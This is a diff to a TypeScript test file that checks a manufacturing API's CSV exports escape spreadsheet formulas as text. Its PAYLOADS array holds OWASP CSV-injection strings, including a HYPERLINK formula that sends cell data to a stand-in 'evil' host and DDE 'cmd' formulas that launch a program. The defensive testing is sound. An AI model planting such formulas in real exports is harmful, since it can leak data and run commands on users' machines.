@@ -11,7 +11,7 @@ import { DB_KINDS, startTestServer, type TestServer } from '../support/server.ts
 import { orderBook } from '../../src/execution/index.ts';
 
 /** Spreadsheet formulas as attackers write them (OWASP CSV injection), each fitting the field it is stored in. */
-const PAYLOADS = ['=HYPERLINK("http://evil/?"&A1,"x")', '+cmd|\' /C calc\'!A0', '-2+3+cmd|\' /C calc\'!A0', '@SUM(1+1)*cmd|\' /C calc\'!A0', '\t=1+1', '\r=1+1'];
+const PAYLOADS = ['=HYPERLINK("http://evil/?"&A1,"x")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", '\t=1+1', '\r=1+1'];
 const FORMULA_START = /^[=+\-@\t\r]/;
 const NUMBER = /^-?\d+(\.\d+)?(e[+-]?\d+)?$/i;
 const ENTERPRISE = '-2-3'; // an equipment id may start with '-': its path is a formula in a spreadsheet
@@ -42,7 +42,9 @@ for (const kind of DB_KINDS) {
 
     beforeAll(async () => {
       t = await startTestServer({ db: kind });
-      const doc = (await get('/api/openapi.json')).json() as { paths: Record<string, Record<string, { parameters?: Array<{ in: string; name: string; schema?: unknown }> }>> };
+      const doc = (await get('/api/openapi.json')).json() as {
+        paths: Record<string, Record<string, { parameters?: Array<{ in: string; name: string; schema?: unknown }> }>>;
+      };
       csvRoutes = Object.entries(doc.paths)
         .filter(([, ops]) => ops.get?.parameters?.some((p) => p.in === 'query' && p.name === 'format' && JSON.stringify(p.schema ?? {}).includes('"csv"')))
         .map(([path]) => path)
@@ -57,13 +59,38 @@ for (const kind of DB_KINDS) {
       const ent = (await call('POST', '/api/equipment', { extId: ENTERPRISE, parentId: null, level: 'enterprise', name: PAYLOADS[0] })) as { id: string };
       await call('POST', '/api/equipment', { extId: '-9', level: 'machine', name: PAYLOADS[1], parentId: ent.id });
       // lots: supplier, supplier lot, location, hold reason and operator typed by people
-      await call('POST', '/api/lots', { id: 'CSV-IN', material: 'PP-GRAN-BK', quantity: 50, location: PAYLOADS[2], supplier: PAYLOADS[0], supplierLot: PAYLOADS[3] });
+      await call('POST', '/api/lots', {
+        id: 'CSV-IN',
+        material: 'PP-GRAN-BK',
+        quantity: 50,
+        location: PAYLOADS[2],
+        supplier: PAYLOADS[0],
+        supplierLot: PAYLOADS[3],
+      });
       await call('POST', '/api/orders', { id: 'O-CSV', product: 'HSG-TOP', quantity: 10 });
       const ledger = new MaterialLedger(new PlantService(t.app.ctx.db, t.app.ctx.events), orderBook);
       await t.app.ctx.db.transaction(async (tx) => {
         const db = tx as unknown as Db;
-        await ledger.consume(db, { id: null, name: 'csv' }, { lotId: 'CSV-IN', quantity: 1, allowedMaterials: ['PP-GRAN-BK'], orderId: 'O-CSV', seq: 10, equipment: 'imm01', method: 'scan' });
-        await ledger.produce(db, { id: null, name: 'csv' }, { lotId: 'CSV-OUT', materialId: 'HSG-TOP', quantity: 10, unit: 'pcs', orderId: 'O-CSV', seq: 10, equipment: 'imm01', operator: PAYLOADS[1], parameters: {} });
+        await ledger.consume(
+          db,
+          { id: null, name: 'csv' },
+          { lotId: 'CSV-IN', quantity: 1, allowedMaterials: ['PP-GRAN-BK'], orderId: 'O-CSV', seq: 10, equipment: 'imm01', method: 'scan' },
+        );
+        await ledger.produce(
+          db,
+          { id: null, name: 'csv' },
+          {
+            lotId: 'CSV-OUT',
+            materialId: 'HSG-TOP',
+            quantity: 10,
+            unit: 'pcs',
+            orderId: 'O-CSV',
+            seq: 10,
+            equipment: 'imm01',
+            operator: PAYLOADS[1],
+            parameters: {},
+          },
+        );
       });
       await call('POST', '/api/lots/CSV-IN/hold', { reason: PAYLOADS[3] });
     });
@@ -90,7 +117,11 @@ for (const kind of DB_KINDS) {
         }
         // the payloads are there, as text: prefixed with ' and otherwise intact
         const cells = rows.flat();
-        for (const p of shows) expect(cells.some((c) => c.startsWith(`'${p}`)), `${path} shows ${JSON.stringify(p)} as text`).toBe(true);
+        for (const p of shows)
+          expect(
+            cells.some((c) => c.startsWith(`'${p}`)),
+            `${path} shows ${JSON.stringify(p)} as text`,
+          ).toBe(true);
       }
     });
   });
